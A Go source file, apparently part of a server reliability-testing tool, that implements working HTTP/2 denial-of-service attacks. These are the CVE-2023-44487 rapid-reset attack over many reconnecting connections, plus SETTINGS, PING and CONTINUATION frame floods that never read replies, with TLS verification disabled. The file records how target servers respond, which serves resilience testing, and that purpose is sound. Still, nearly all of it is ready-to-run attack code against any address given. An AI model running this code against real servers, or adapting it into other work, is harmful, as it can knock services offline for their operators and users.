package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"golang.org/x/sys/unix"
)

// h2Conn is a raw HTTP/2 client connection over TLS.
type h2Conn struct {
	tcp *net.TCPConn
	tls *tls.Conn
	bw  *bufio.Writer
	fr  *http2.Framer
}

// dialH2 opens TLS with ALPN h2 to addr, sends the client preface and an
// empty SETTINGS frame. rcvBuf > 0 sets a small receive buffer first (a
// client that never reads).
func dialH2(ctx context.Context, addr string, rcvBuf int) (*h2Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if rcvBuf > 0 {
		d.Control = func(_, _ string, rc syscall.RawConn) error {
			var serr error
			err := rc.Control(func(fd uintptr) {
				serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_RCVBUF, rcvBuf)
			})
			return errors.Join(err, serr)
		}
	}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("dial %s: %w", addr, err)
	}
	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, ServerName: "reliability.test"}) //nolint:gosec // a test tool
	hctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if err := tc.HandshakeContext(hctx); err != nil {
		_ = c.Close()
		return nil, fmt.Errorf("tls %s: %w", addr, err)
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		_ = tc.Close()
		return nil, fmt.Errorf("tls %s: ALPN %q, not h2", addr, p)
	}
	h := &h2Conn{tcp: c.(*net.TCPConn), tls: tc}
	h.bw = bufio.NewWriterSize(tc, 64<<10)
	h.fr = http2.NewFramer(h.bw, tc)
	h.fr.SetMaxReadFrameSize(1 << 20)
	if _, err := h.bw.WriteString(http2.ClientPreface); err != nil {
		_ = tc.Close()
		return nil, fmt.Errorf("preface: %w", err)
	}
	if err := h.fr.WriteSettings(); err != nil {
		_ = tc.Close()
		return nil, fmt.Errorf("settings: %w", err)
	}
	if err := h.bw.Flush(); err != nil {
		_ = tc.Close()
		return nil, fmt.Errorf("preface: %w", err)
	}
	return h, nil
}

func (h *h2Conn) close() { _ = h.tls.Close() }

// tcpState returns the kernel's TCP state of the connection (1 is
// ESTABLISHED), or 0 when it cannot be read.
func (h *h2Conn) tcpState() uint8 {
	rc, err := h.tcp.SyscallConn()
	if err != nil {
		return 0
	}
	var st uint8
	_ = rc.Control(func(fd uintptr) {
		if ti, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO); err == nil {
			st = ti.State
		}
	})
	return st
}

// encodeBlock HPACK-encodes fields as never-indexed literals, so that the
// same bytes can be sent again and again without touching the decoder's
// dynamic table.
func encodeBlock(fields ...string) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: true})
	}
	return buf.Bytes()
}

// getBlock is the header block of GET / for authority.
func getBlock(authority, path string) []byte {
	return encodeBlock(":method", "GET", ":scheme", "https", ":authority", authority, ":path", path)
}

// RapidResetResult is what an HTTP/2 rapid-reset attack did.
type RapidResetResult struct {
	// Connections is the number of connections opened; DialErrors the
	// dials or handshakes that failed.
	Connections int64 `json:"connections"`
	DialErrors  int64 `json:"dial_errors"`
	// Streams counts HEADERS sent, each followed by RST_STREAM.
	Streams int64 `json:"streams"`
	// ClosedByServer counts connections the server ended (GOAWAY, EOF
	// or reset) while the attack ran.
	ClosedByServer int64 `json:"closed_by_server"`
	// GoAways counts GOAWAY frames received by error code.
	GoAways map[string]int64 `json:"goaways,omitempty"`
}

// RapidReset runs the HTTP/2 rapid-reset attack (CVE-2023-44487) on conns
// connections to addr for d: each sends HEADERS for GET path and at once
// RST_STREAM(CANCEL), in a loop, and opens a new connection when the
// server closes one. It reads and discards what the server sends.
func RapidReset(ctx context.Context, addr string, conns int, d time.Duration, path string) RapidResetResult {
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	var res RapidResetResult
	var mu sync.Mutex
	goaways := map[string]int64{}
	var wg sync.WaitGroup
	for range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			block := getBlock("reliability.test", path)
			for ctx.Err() == nil {
				h, err := dialH2(ctx, addr, 0)
				if err != nil {
					if ctx.Err() == nil {
						atomic.AddInt64(&res.DialErrors, 1)
						time.Sleep(50 * time.Millisecond)
					}
					continue
				}
				atomic.AddInt64(&res.Connections, 1)
				closed := make(chan struct{})
				ack := make(chan struct{}, 1)
				go func() {
					defer close(closed)
					rfr := http2.NewFramer(nil, h.tls)
					rfr.SetMaxReadFrameSize(1 << 20)
					for {
						f, err := rfr.ReadFrame()
						if err != nil {
							return
						}
						switch f := f.(type) {
						case *http2.GoAwayFrame:
							mu.Lock()
							goaways[f.ErrCode.String()]++
							mu.Unlock()
						case *http2.SettingsFrame:
							if !f.IsAck() {
								select {
								case ack <- struct{}{}:
								default:
								}
							}
						}
					}
				}()
				byServer := false
				for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
					select {
					case <-closed:
						byServer = true
					case <-ack:
						_ = h.fr.WriteSettingsAck()
					default:
					}
					if byServer {
						break
					}
					_ = h.tls.SetWriteDeadline(time.Now().Add(time.Second))
					err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
					if err == nil {
						err = h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
					}
					if err == nil && id%64 == 63 {
						err = h.bw.Flush()
					}
					if err != nil {
						var ne net.Error
						if !(errors.As(err, &ne) && ne.Timeout()) {
							byServer = true
						}
						break
					}
					atomic.AddInt64(&res.Streams, 1)
				}
				_ = h.bw.Flush()
				if byServer && ctx.Err() == nil {
					atomic.AddInt64(&res.ClosedByServer, 1)
				}
				h.close()
				<-closed
			}
		}()
	}
	wg.Wait()
	if len(goaways) > 0 {
		res.GoAways = goaways
	}
	return res
}

// Flood kinds.
const (
	FloodSettings     = "settings"
	FloodPing         = "ping"
	FloodContinuation = "continuation"
)

// FloodResult is what a control-frame or CONTINUATION flood saw.
type FloodResult struct {
	Kind string `json:"kind"`
	// Cut says whether the server ended the connection within the
	// attack's bound; CutMs is when, from the first flood frame.
	Cut   bool    `json:"cut"`
	CutMs float64 `json:"cut_ms,omitempty"`
	// How says how the end was seen: "fin" (the server closed), "reset",
	// "write error", or "not cut".
	How string `json:"how"`
	// Frames counts the flood frames the client wrote.
	Frames int64 `json:"frames"`
	// GoAway is the error code of a GOAWAY found in what the server sent
	// (read only after the cut), "" when none was found.
	GoAway string `json:"goaway,omitempty"`
	// Stalled says the server stopped reading (the client's writes
	// blocked) before the cut.
	Stalled bool   `json:"stalled,omitempty"`
	Error   string `json:"error,omitempty"`
}

// Flood opens one HTTP/2 connection to addr with a small receive buffer,
// never reads from it, and sends frames of kind as fast as the connection
// takes them until the server ends the connection or bound passes.
func Flood(ctx context.Context, addr, kind string, bound time.Duration) FloodResult {
	res := FloodResult{Kind: kind, How: "not cut"}
	h, err := dialH2(ctx, addr, 4096)
	if err != nil {
		res.Error = err.Error()
		return res
	}
	defer h.close()
	var payload func() error
	switch kind {
	case FloodSettings:
		payload = func() error {
			return h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		}
	case FloodPing:
		payload = func() error { return h.fr.WritePing(false, [8]byte{1, 2, 3, 4, 5, 6, 7, 8}) }
	case FloodContinuation:
		var fields []string
		for i := range 64 {
			fields = append(fields, fmt.Sprintf("x-flood-%d", i), strings.Repeat("a", 1000))
		}
		chunk := encodeBlock(fields...) // ~64 KiB of valid HPACK, repeatable
		first := true
		off := 0
		payload = func() error {
			if first {
				first = false
				return h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: getBlock("reliability.test", "/"), EndStream: true})
			}
			n := min(16384, len(chunk)-off)
			err := h.fr.WriteContinuation(1, false, chunk[off:off+n])
			off = (off + n) % len(chunk)
			return err
		}
	default:
		res.Error = "unknown flood " + kind
		return res
	}
	start := time.Now()
	stop := make(chan struct{})
	cut := make(chan string, 2)
	go func() { // watch the kernel's view of the connection
		t := time.NewTicker(2 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-stop:
				return
			case <-t.C:
			}
			switch st := h.tcpState(); st {
			case 0, unix.BPF_TCP_ESTABLISHED:
			case unix.BPF_TCP_CLOSE:
				cut <- "reset"
				return
			default:
				cut <- "fin"
				return
			}
		}
	}()
	deadline := start.Add(bound)
	var how string
	var lastProgress = time.Now()
loop:
	for time.Now().Before(deadline) && ctx.Err() == nil {
		select {
		case how = <-cut:
			break loop
		default:
		}
		_ = h.tls.SetWriteDeadline(time.Now().Add(50 * time.Millisecond))
		before := h.bw.Buffered()
		err := payload()
		if err == nil && h.bw.Buffered() < before {
			lastProgress = time.Now()
		}
		if err == nil && h.bw.Available() < 1024 {
			err = h.bw.Flush()
			if err == nil {
				lastProgress = time.Now()
			}
		}
		if err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				if time.Since(lastProgress) > 200*time.Millisecond {
					res.Stalled = true
				}
				// bufio keeps the error: a new writer on the same TLS
				// connection (the TLS record may be half written, but
				// the server is not reading it anyway).
				h.bw.Reset(h.tls)
				select {
				case how = <-cut:
					break loop
				case <-time.After(5 * time.Millisecond):
				}
				continue
			}
			select {
			case how = <-cut:
			case <-time.After(20 * time.Millisecond):
				how = "write error"
			}
			break
		}
		res.Frames++
	}
	close(stop)
	if how == "" {
		select {
		case how = <-cut:
		default:
		}
	}
	if how != "" {
		res.Cut, res.How, res.CutMs = true, how, Ms(time.Since(start))
	}
	if res.Cut {
		res.GoAway = findGoAway(h, time.Second)
	}
	return res
}

// findGoAway reads what the server sent, for at most limit, and returns
// the error code of the first GOAWAY frame found.
func findGoAway(h *h2Conn, limit time.Duration) string {
	_ = h.tls.SetReadDeadline(time.Now().Add(limit))
	rfr := http2.NewFramer(nil, h.tls)
	rfr.SetMaxReadFrameSize(1 << 20)
	for range 200000 {
		f, err := rfr.ReadFrame()
		if err != nil {
			return ""
		}
		if g, ok := f.(*http2.GoAwayFrame); ok {
			return g.ErrCode.String()
		}
	}
	return ""
}
